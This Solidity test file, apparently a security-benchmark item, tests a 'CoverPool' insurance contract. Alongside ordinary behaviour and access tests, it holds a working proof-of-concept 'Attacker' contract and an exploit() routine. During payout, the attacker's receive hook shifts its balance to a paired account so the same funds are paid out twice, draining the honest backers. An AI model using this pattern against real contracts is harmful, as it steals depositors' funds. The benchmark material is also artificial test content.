// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./CoverPool.sol";

// assay-canary-dcfa41c1-5cc8-4b8f-a956-88380b35cef0

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

/// A backer with a contract wallet.
contract Backer {
    CoverPool internal pool;

    constructor(CoverPool pool_) {
        pool = pool_;
    }

    receive() external payable virtual {}

    function deposit(uint256 amount) public {
        pool.deposit{value: amount}();
    }

    function withdraw(uint96 amount) public {
        pool.withdraw(amount);
    }

    function request() public {
        pool.request();
    }

    function exit() public {
        pool.exit();
    }

    function move(address to, uint96 amount) public {
        pool.move(to, amount);
    }
}

/// Comes back while it is paid, and insists on being refused.
contract Nested is Backer {
    bytes internal again;

    constructor(CoverPool pool_) Backer(pool_) {}

    receive() external payable override {
        if (again.length == 0) return;
        (bool ok, bytes memory why) = address(pool).call(again);
        require(!ok && bytes4(why) == ReentrancyGuard.ReentrancyGuardReentrantCall.selector, "let through");
    }

    function plan(bytes calldata again_) external {
        again = again_;
    }
}

/// Moves the balance to its mate while it is being paid out.
contract Attacker is Backer {
    Backer internal mate;

    constructor(CoverPool pool_) Backer(pool_) {
        mate = new Backer(pool_);
    }

    receive() external payable override {
        (uint96 bal, , , ) = pool.accs(address(this));
        if (bal > 0) move(address(mate), bal);
    }

    function enter() external {
        payable(address(mate)).transfer(1 ether);
        mate.deposit(1 ether);
        deposit(address(this).balance);
        mate.request();
        request();
    }

    function run() external {
        exit();
        mate.exit();
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    CoverPool private pool;
    Backer private ines;
    Backer private jorn;
    Attacker private mallory;
    address private constant MANAGER = address(0xAD7);

    function setUp() public {
        vm.warp(1_700_000_000);
        pool = new CoverPool(MANAGER);
        ines = new Backer(pool);
        jorn = new Backer(pool);
        mallory = new Attacker(pool);
        vm.deal(address(ines), 10 ether);
        vm.deal(address(jorn), 10 ether);
        vm.deal(address(mallory), 21 ether);
        ines.deposit(10 ether);
        jorn.deposit(10 ether);
    }

    function test_Regular() public {
        require(pool.n() == 2 && pool.res() == 1 ether && pool.total() == 19 ether, "paid in");
        ines.move(address(jorn), 2 ether);
        jorn.withdraw(1.5 ether);
        require(address(jorn).balance == 1.5 ether, "withdrawn");
        require(!_try(jorn, abi.encodeCall(Backer.withdraw, (10 ether))), "minimum");
        require(!_try(jorn, abi.encodeCall(Backer.move, (address(0xBEE), 1))), "to a stranger");

        require(!_try(ines, abi.encodeCall(Backer.exit, ())), "without a request");
        ines.request();
        vm.warp(block.timestamp + 29 days);
        require(!_try(ines, abi.encodeCall(Backer.exit, ())), "before its end");
        ines.move(address(jorn), 0.5 ether);
        vm.prank(MANAGER);
        pool.payClaim(address(jorn), 0.4 ether, "claim 1");
        require(address(jorn).balance == 1.9 ether && pool.res() == 0.6 ether, "claim paid");
        vm.warp(block.timestamp + 1 days);
        ines.exit();
        require(address(ines).balance == 7 ether, "exit");
        require(!_try(ines, abi.encodeCall(Backer.exit, ())), "twice");
        require(pool.n() == 1 && pool.total() == 10.5 ether, "one account left");
        require(address(pool).balance == pool.total() + pool.res(), "books");

        vm.prank(address(jorn));
        pool.request();
        vm.prank(address(jorn));
        pool.cancel();
        vm.warp(block.timestamp + 30 days);
        require(!_try(jorn, abi.encodeCall(Backer.exit, ())), "stays");
    }

    function _try(Backer who, bytes memory data) private returns (bool ok) {
        (ok, ) = address(who).call(data);
    }

    // What the two honest backers can still get out.
    function recoverable() public view returns (uint256) {
        (uint96 a, , , ) = pool.accs(address(ines));
        (uint96 b, , , ) = pool.accs(address(jorn));
        uint256 both = uint256(a) + b;
        return address(pool).balance < both ? address(pool).balance : both;
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Accounts are their owners' business, claims the manager's.
    function test_RefusesStrangers() public {
        address none = address(0xBEE);
        bytes memory noAcc = abi.encodePacked(CoverPool.NoAcc.selector);
        refuses(none, noAcc);
        pool.withdraw(0);
        refuses(none, noAcc);
        pool.request();
        refuses(none, noAcc);
        pool.cancel();
        refuses(none, noAcc);
        pool.exit();
        refuses(none, noAcc);
        pool.move(address(ines), 0);
        refuses(none, CoverPool.NotMgr.selector);
        pool.payClaim(address(ines), 1, "");
        refuses(MANAGER, noAcc);
        pool.payClaim(none, 1, "");
        vm.deal(none, 1 ether);
        refuses(none, CoverPool.Low.selector);
        pool.deposit{value: 0.1 ether}();
    }

    /// One payment at a time, to who takes it.
    function test_RefusesASecondPayment() public {
        Nested pat = new Nested(pool);
        vm.deal(address(pat), 10 ether);
        pat.deposit(10 ether);
        pat.plan(abi.encodeCall(pool.withdraw, (0.1 ether)));
        pat.withdraw(1 ether);
        pat.plan(abi.encodeCall(pool.exit, ()));
        pat.withdraw(1 ether);
        pat.plan(abi.encodeCall(pool.payClaim, (address(pat), 0, "")));
        pat.withdraw(1 ether);
        address wall = address(this);
        vm.deal(wall, 2 ether);
        pool.deposit{value: 2 ether}();
        vm.expectRevert(abi.encodePacked(CoverPool.Failed.selector));
        pool.withdraw(1);
    }

    function exploit() public {
        mallory.enter();
        vm.warp(block.timestamp + 30 days);
        mallory.run();
    }

    function test_Exploit() public {
        uint256 before = recoverable();
        exploit();
        require(before == 19 ether && recoverable() <= 3 ether, "balances are all there");
    }

    function target() public view returns (address) {
        return address(pool);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
